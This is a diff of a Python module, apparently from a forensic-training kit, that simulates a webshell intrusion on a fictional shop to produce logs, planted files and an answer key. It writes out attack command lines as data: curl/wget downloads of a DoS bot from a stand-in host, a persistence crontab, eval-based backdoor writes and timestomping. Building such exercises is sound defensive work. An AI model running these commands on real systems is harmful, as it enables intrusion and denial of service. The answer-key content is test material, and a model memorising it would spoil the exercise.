@@ -1,44 +1,25 @@
-"""The intrusion of Saturday 2026-11-21, 23:38–23:50: the requests, the files they create and what they leave behind.
+"""The first incident, ``upload``: a webshell posted through the shop's unprotected upload form on a Saturday night.
 
-A directory scan, the webshell uploaded through ``admin/upload.php``, commands
-run through it, the DoS bot and its launcher in ``/tmp/.X11-cache``, a
-``www-data`` crontab, and a second, timestomped backdoor among the shop's
-classes. :func:`build` adds the requests to the shop's traffic, the files to the
-tree, and returns an :class:`Attack`: what happened, for the answer key
-(:mod:`breachkit.demo.answer_key`) and for the host activity that follows it
-(:mod:`breachkit.demo.parts.host_activity`).
+Saturday 2026-11-21, 23:38–23:50: ``203.0.113.77`` scans the shop, POSTs a PHP
+webshell to ``admin/upload.php`` (it lands as ``images/thumb_cache.php``), runs
+commands through it, downloads a DoS bot from ``198.51.100.23`` into
+``/tmp/.X11-cache/``, installs a ``www-data`` crontab that restarts it every five
+minutes, drops a second, cookie-keyed backdoor among the shop's classes and sets
+that file's mtime back to June with ``touch -d``. The crontab keeps firing and the
+flood fills the connection table until the hosting provider cuts the server off
+on Sunday 17:52; the disk is imaged at 21:40. Nothing is wiped: every trace is
+still on the host.
 """
 
 from __future__ import annotations
 
-import hashlib
-import re
-import urllib.parse
-from dataclasses import dataclass
-
-from breachkit.demo.calendar import ATTACK_DAY
-from breachkit.demo.content import blobs, clock, system, traffic, web
-from breachkit.demo.content.clock import MS, local_ns
-from breachkit.demo.content.traffic import Hit
-from breachkit.demo.truth import AttackRequest, EntryPoint, MaliciousFile, Timestomp, Trace
+from breachkit.demo.content import blobs, clock, hostlog, system, traffic, web
+from breachkit.demo.content.clock import MINUTE, MS, SECOND, local_ns
+from breachkit.demo.intruder import Attack, Intruder, sha256
+from breachkit.demo.parts.host_activity import cron_job
+from breachkit.demo.story import Dates, Story
+from breachkit.demo.truth import AttackerAddress, EntryPoint, MaliciousFile, Timestomp, Trace
 from breachkit.demo.world import WWW, World, random_for
-
-
-@dataclass(slots=True)
-class Attack:
-    """What the attack did, as the answer key needs it; filled in while it happens."""
-
-    requests: list[AttackRequest]
-    commands: list[str]
-    malicious: list[MaliciousFile]
-    traces: list[Trace]
-    entry: EntryPoint | None = None
-    timestomp: Timestomp | None = None
-    start: int = 0
-    end: int = 0
-    dos_started: int = 0
-    crontab_installed: int = 0
-
 
 # the scan's word list as the shop answers it: (path, status)
 _GOBUSTER = (
@@ -93,42 +74,26 @@ _GOBUSTER = (
 FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 GOBUSTER = "gobuster/3.6"
 CURL = "curl/8.5.0"
+SHELL_URL = "/images/thumb_cache.php"
 
 
-def build(world: World) -> Attack:
+def intrude(world: World) -> Attack:
     """Carry out the attack on the tree and in the shop's traffic; return what it did."""
     tree = world.tree
-    rng = random_for(world.seed, "attack")
-    ip = traffic.ATTACKER_IP
+    attack = Attack()
+    me = Intruder(world, attack, "attack", traffic.ATTACKER_IP, web.SHOP)
+    rng, at = me.rng, me.at
     shop = web.docroot(web.SHOP)
     base = f"https://{web.SHOP}"
-    log_path = f"/var/log/apache2/{web.SHOP}_access.log"
-    attack = Attack([], [], [], [])
-    hits = world.hits.setdefault(web.SHOP, [])
-    y, m, d = ATTACK_DAY
-
-    def at(h: int, mi: int, s: int) -> int:
-        return local_ns(y, m, d, h, mi, s) + rng.randrange(0, 900) * MS + rng.randrange(1, MS)
 
     def request(
         t: int, method: str, target: str, status: int, size: int, agent: str, purpose: str, ref: str = ""
-    ) -> None:
-        hits.append(
-            Hit(
-                t,
-                ip,
-                method,
-                target,
-                status,
-                size,
-                ref,
-                agent,
-                "attacker",
-                9_000_000 + len(hits),
-                cookies=agent == FIREFOX,
-            )
-        )
-        attack.requests.append(AttackRequest(t, ip, method, target, status, log_path, purpose))
+    ) -> str:
+        return me.request(t, method, target, status, size, agent, purpose, ref, cookies=agent == FIREFOX).line()
+
+    def cmd(h: int, mi: int, s: int, command: str, purpose: str, output: int = 0) -> int:
+        """One ?cmd= request; the response is headers, <pre>, the command's stdout, </pre>."""
+        return me.command(SHELL_URL, "cmd", at(h, mi, s), command, purpose, output, CURL)
 
     # 1. directory scan
     t = at(23, 38, 4)
@@ -149,19 +114,16 @@ def build(world: World) -> Attack:
     request(t, "GET", "/admin/upload.php", 200, 688, FIREFOX, "looks at the unprotected upload form")
     # 3. the upload: the webshell
     t_post = at(23, 41, 17)
-    request(
+    line = request(
         t_post, "POST", "/admin/upload.php", 200, 342, FIREFOX, "uploads the webshell", ref=f"{base}/admin/upload.php"
     )
-    shell = f"{shop}/images/thumb_cache.php"
+    shell = f"{shop}{SHELL_URL}"
     # PHP spooled the upload to /tmp/phpXXXXXX while receiving it, then renamed it into images/
     born = t_post + rng.randrange(140, 420) * MS + tree.small()
     moved = born + rng.randrange(8, 40) * MS
     node = tree.write(shell, web.WEBSHELL, born, uid=WWW, gid=WWW, done=born + tree.small(80, 300), linked=moved)
     node.changes.append(moved + tree.small())  # chmod 0644 by move_uploaded_file
     tree.removed("/tmp", moved)
-    line = Hit(
-        t_post, ip, "POST", "/admin/upload.php", 200, 342, f"{base}/admin/upload.php", FIREFOX, "attacker", 0
-    ).line()
     attack.entry = EntryPoint(
         f"{base}/admin/upload.php",
         "POST",
@@ -169,7 +131,7 @@ def build(world: World) -> Attack:
         "admin/upload.php checks neither the admin login (no require_login()) nor the file type; "
         "it keeps the client's file name, so a .php file lands in the web-served images/ folder",
         t_post,
-        log_path,
+        me.log_path,
         line,
         shell,
     )
@@ -178,23 +140,12 @@ def build(world: World) -> Attack:
             shell,
             "webshell",
             "PHP webshell: ?cmd= runs shell commands, POST x= evaluates base64-encoded PHP",
-            _sha(web.WEBSHELL),
+            sha256(web.WEBSHELL),
             born,
         )
     )
-
-    def cmd(h: int, mi: int, s: int, command: str, purpose: str, output: int = 0) -> int:
-        """One ?cmd= request; the response is headers, <pre>, the command's stdout, </pre>."""
-        t = at(h, mi, s)
-        attack.commands.append(command)
-        ran.append((t, command))
-        target = "/images/thumb_cache.php?cmd=" + urllib.parse.quote(command, safe="")
-        request(t, "GET", target, 200, 242 + output, CURL, purpose)
-        return t
-
-    ran: list[tuple[int, str]] = []
     t = at(23, 41, 34)
-    request(t, "GET", "/images/thumb_cache.php", 200, 198, FIREFOX, "checks the webshell answers")
+    request(t, "GET", SHELL_URL, 200, 198, FIREFOX, "checks the webshell answers")
     cmd(23, 41, 52, "id", "who am I", 54)
     cmd(23, 42, 5, "uname -a", "system reconnaissance", 104)
     cmd(23, 42, 20, "ls -la", "lists images/", 2_874)
@@ -223,12 +174,18 @@ def build(world: World) -> Attack:
         23,
         43,
         40,
-        "cd /tmp/.X11-cache && wget http://198.51.100.23/k.bin -O kworkerd",
+        f"cd /tmp/.X11-cache && wget http://{traffic.PAYLOAD_HOST_IP}/k.bin -O kworkerd",
         "download attempt fails: wget is not installed",
     )
     world.error_lines.setdefault(web.SHOP, []).append((t + 40 * MS, "sh: 1: wget: not found"))
     cmd(23, 44, 2, "which curl python3 perl", "looks for a download tool", 28)
-    t = cmd(23, 44, 15, "cd /tmp/.X11-cache && curl -s -o kworkerd http://198.51.100.23/k.bin", "downloads the DoS bot")
+    t = cmd(
+        23,
+        44,
+        15,
+        f"cd /tmp/.X11-cache && curl -s -o kworkerd http://{traffic.PAYLOAD_HOST_IP}/k.bin",
+        "downloads the DoS bot",
+    )
     bot = f"{hidden}/kworkerd"
     bot_data = blobs.elf("kworkerd", web.DOS_TOOL_STRINGS, 61_440, pie=False, static=True)
     born = t + 60 * MS + tree.small()
@@ -237,8 +194,9 @@ def build(world: World) -> Attack:
         MaliciousFile(
             bot,
             "dos-tool",
-            "statically linked flooder (UDP/SYN/ACK/HTTP floods) controlled over IRC from 198.51.100.23:6667",
-            _sha(bot_data),
+            "statically linked flooder (UDP/SYN/ACK/HTTP floods) controlled over IRC from "
+            f"{traffic.PAYLOAD_HOST_IP}:6667",
+            sha256(bot_data),
             born,
         )
     )
@@ -247,13 +205,13 @@ def build(world: World) -> Attack:
     tree.nodes[bot].mode = 0o755
     # launcher written through the eval channel
     t = at(23, 44, 58)
-    request(t, "POST", "/images/thumb_cache.php", 200, 231, CURL, "writes run.sh through eval(base64_decode())")
+    request(t, "POST", SHELL_URL, 200, 231, CURL, "writes run.sh through eval(base64_decode())")
     attack.commands.append("file_put_contents('/tmp/.X11-cache/run.sh', ...)")
     launcher = f"{hidden}/run.sh"
     born = t + 15 * MS + tree.small()
     tree.write(launcher, web.RUN_SH, born, uid=WWW, gid=WWW)
     attack.malicious.append(
-        MaliciousFile(launcher, "launcher", "restarts the bot if it is not running", _sha(web.RUN_SH), born)
+        MaliciousFile(launcher, "launcher", "restarts the bot if it is not running", sha256(web.RUN_SH), born)
     )
     t = cmd(23, 45, 7, "chmod 755 /tmp/.X11-cache/run.sh", "makes the launcher executable")
     tree.nodes[launcher].changes.append(t + 20 * MS + tree.small())
@@ -265,17 +223,19 @@ def build(world: World) -> Attack:
     data = web.crontab_file(clock.ctime_text(born), (web.CRON_LINE,))
     node = tree.write(spool, data, born, uid=WWW, gid=system.GID_CRONTAB, mode=0o600, linked=born + 2 * MS)
     node.changes.append(born + 2 * MS + tree.small())
-    attack.crontab_installed = born
-    attack.malicious.append(MaliciousFile(spool, "persistence", f"www-data crontab: {web.CRON_LINE}", _sha(data), born))
+    attack.marks["crontab"] = born
+    attack.malicious.append(
+        MaliciousFile(spool, "persistence", f"www-data crontab: {web.CRON_LINE}", sha256(data), born)
+    )
     world.log.sys(born + 3 * MS, f"crontab[{world.log.pid(born)}]", "(www-data) REPLACE (www-data)")
     t = cmd(23, 45, 44, "/tmp/.X11-cache/run.sh", "starts the bot")
-    attack.dos_started = t + 60 * MS
+    attack.marks["flood"] = t + 60 * MS
     tree.read(launcher, t + 20 * MS)
     tree.read(bot, t + 45 * MS)
     cmd(23, 46, 3, "ps aux | grep kworker", "checks the bot runs", 196)
     # second way in, written among the shop's classes, then timestomped
     t = at(23, 49, 12)
-    request(t, "POST", "/images/thumb_cache.php", 200, 231, CURL, "writes a second backdoor through eval()")
+    request(t, "POST", SHELL_URL, 200, 231, CURL, "writes a second backdoor through eval()")
     attack.commands.append("file_put_contents('../includes/lib/ImageCache.php', ...)")
     backdoor = f"{shop}/includes/lib/ImageCache.php"
     born = t + 14 * MS + tree.small()
@@ -285,7 +245,7 @@ def build(world: World) -> Attack:
             backdoor,
             "backdoor",
             "cookie-keyed eval backdoor disguised as a shop class (cookie __utmz_c, reversed base64)",
-            _sha(web.BACKDOOR),
+            sha256(web.BACKDOOR),
             born,
         )
     )
@@ -308,21 +268,7 @@ def build(world: World) -> Attack:
     t = cmd(23, 50, 40, "ls -la ../includes/lib", "checks the forged date", 331)
     tree.read(f"{shop}/includes/lib", t + 25 * MS)
     attack.end = t
-    # the binaries the commands ran: their atimes move (relatime) – quiet evidence
-    executed: set[str] = set()
-    for when, command in ran:
-        tree.read("/usr/bin/dash", when + 12 * MS)  # system() runs sh -c
-        segments = re.split(r"&&|;|\||\(|\)", command)
-        words = {seg.split()[0] for seg in segments if seg.split()}  # the programs, not their arguments
-        if command.endswith("run.sh"):
-            words.add("pgrep")  # run.sh calls it
-        for word in sorted(words):
-            binary = f"/usr/bin/{word}"
-            if binary in tree and tree.nodes[binary].kind == "file" and word not in ("dash", "sh"):
-                tree.read(binary, when + 15 * MS)
-                executed.add(binary)
-    for binary in sorted(executed):
-        attack.traces.append(Trace(binary, "executed through the webshell (atime)"))
+    me.executed({"/tmp/.X11-cache/run.sh": ("pgrep",)})
     attack.traces.append(Trace(f"{shop}/images", "folder changed by the upload (mtime/ctime)"))
     attack.traces.append(
         Trace(
@@ -335,8 +281,73 @@ def build(world: World) -> Attack:
     attack.traces.append(
         Trace(f"/var/log/apache2/{web.SHOP}_error.log.1", "holds 'sh: 1: wget: not found' from the failed download")
     )
+    _facts(attack)
     return attack
 
 
-def _sha(data: bytes) -> str:
-    return hashlib.sha256(data).hexdigest()
+def _facts(attack: Attack) -> None:
+    """What the answer key says beyond the files: addresses, persistence, exposed secrets."""
+    access = f"/var/log/apache2/{web.SHOP}_access.log.1"
+    attack.addresses = [
+        AttackerAddress(
+            traffic.ATTACKER_IP,
+            "web client",
+            "scanned the shop, uploaded the webshell through admin/upload.php and sent commands through it",
+            (access,),
+        ),
+        AttackerAddress(
+            traffic.PAYLOAD_HOST_IP,
+            "download and control host",
+            "served the DoS bot and controls it over IRC on port 6667",
+            (access, "/tmp/.X11-cache/run.sh", "/tmp/.X11-cache/kworkerd"),
+        ),
+    ]
+    attack.payload_url = f"http://{traffic.PAYLOAD_HOST_IP}/k.bin"
+    attack.c2 = f"{traffic.PAYLOAD_HOST_IP}:6667"
+    attack.hidden_dirs = ["/tmp/.X11-cache"]
+    attack.persistence = ["/var/spool/cron/crontabs/www-data"]
+    attack.exposed_credentials = [
+        f"MariaDB user 'shop' (DB_PASS in {web.docroot(web.SHOP)}/includes/config.php, read through the webshell)",
+    ]
+
+
+def aftermath(world: World, attack: Attack) -> None:
+    """The crontab fires every five minutes and the flood fills the connection table until the cut."""
+    log, tree = world.log, world.tree
+    rng = random_for(world.seed, "aftermath")
+    installed = attack.marks["crontab"]
+    # cron notices the new crontab at the next minute
+    reload_at = (installed // MINUTE + 1) * MINUTE + 700 * MS
+    log.sys(reload_at, f"cron[{hostlog.CRON_DAEMON_PID}]", "(www-data) RELOAD (crontabs/www-data)")
+    tree.read("/var/spool/cron/crontabs/www-data", reload_at + MS)
+    t = (installed // (5 * MINUTE) + 1) * 5 * MINUTE + rng.randrange(60) * MS
+    while t < world.dates.snapshot:
+        cron_job(world, t, "www-data", WWW, "/tmp/.X11-cache/run.sh >/dev/null 2>&1", 25 * MS)
+        tree.read("/tmp/.X11-cache/run.sh", t + 6 * MS)
+        t += 5 * MINUTE + rng.randrange(60) * MS
+    t = attack.marks["flood"] + 95 * SECOND
+    while t < world.dates.network_cut + 20 * MINUTE:
+        log.kernel(t, "nf_conntrack: nf_conntrack: table full, dropping packet")
+        log.kernel(t + 5 * SECOND, f"net_ratelimit: {rng.randrange(200, 4_000)} callbacks suppressed")
+        t += rng.randrange(2 * MINUTE, 14 * MINUTE)
+
+
+STORY = Story(
+    name="upload",
+    summary=(
+        "Saturday night a PHP webshell is posted through the shop's unprotected admin/upload.php; through it the "
+        "attacker downloads a DoS bot, keeps it running with a www-data crontab and hides a timestomped backdoor. "
+        "Nothing is wiped."
+    ),
+    dates=Dates(
+        attack_day=(2026, 11, 21),
+        admins_until=local_ns(2026, 11, 21, 23, 38, 4),
+        network_cut=local_ns(2026, 11, 22, 17, 52, 13),
+        snapshot=local_ns(2026, 11, 22, 21, 40, 0),
+        cache_preload=local_ns(2026, 11, 21, 23, 30, 7),
+        owner_photo=local_ns(2026, 11, 21, 15, 41, 52),
+        owner_photo_name="IMG_20261121_153817.jpg",
+    ),
+    intrude=intrude,
+    aftermath=aftermath,
+)
